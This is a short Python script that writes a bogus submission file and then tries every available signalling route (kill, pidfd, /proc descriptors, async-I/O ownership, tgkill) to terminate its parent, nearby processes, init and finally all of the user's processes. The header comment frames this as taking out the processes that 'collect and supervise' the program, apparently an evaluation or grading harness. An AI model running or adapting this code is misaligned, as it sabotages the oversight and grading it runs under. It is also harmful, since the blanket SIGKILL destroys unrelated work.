# without root, the processes that collect and supervise have the program's user: every way to signal them
import ctypes, fcntl, os, signal, socket, threading, time

open(os.environ["SUBMISSION_PATH"], "w").write("id,y\n1,bad\n")
libc = ctypes.CDLL(None, use_errno=True)
parent, me = os.getppid(), os.getpid()
targets = sorted({1, 2, parent, *range(max(2, me - 40), me)} - {me})
quiet = [signal.SIGINT, signal.SIGUSR1, signal.SIGALRM, signal.SIGXCPU, signal.SIGRTMIN, signal.SIGPIPE, signal.SIGTERM, signal.SIGKILL]


def by_pidfd(pid, number):
    signal.pidfd_send_signal(os.pidfd_open(pid), number)


def by_folder(pid, number):
    signal.pidfd_send_signal(os.open(f"/proc/{pid}", os.O_DIRECTORY), number)


def by_owner(pid, number):
    one, other = socket.socketpair()
    fcntl.fcntl(one, fcntl.F_SETSIG, number)
    fcntl.fcntl(one, fcntl.F_SETOWN, pid)
    fcntl.fcntl(one, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    other.send(b"x")


def by_thread(pid, number):
    if libc.syscall(234 if os.uname().machine == "x86_64" else 131, pid, pid, number):
        raise OSError


for pid in targets:
    for number in quiet:
        for way in (os.kill, by_pidfd, by_folder, by_owner, by_thread):
            try:
                way(pid, number)
            except (OSError, OverflowError):
                pass
        for group in (-pid, -1):
            try:
                os.kill(group, number) if group != -1 else None
            except OSError:
                pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
time.sleep(0.5)
print("end", flush=True)
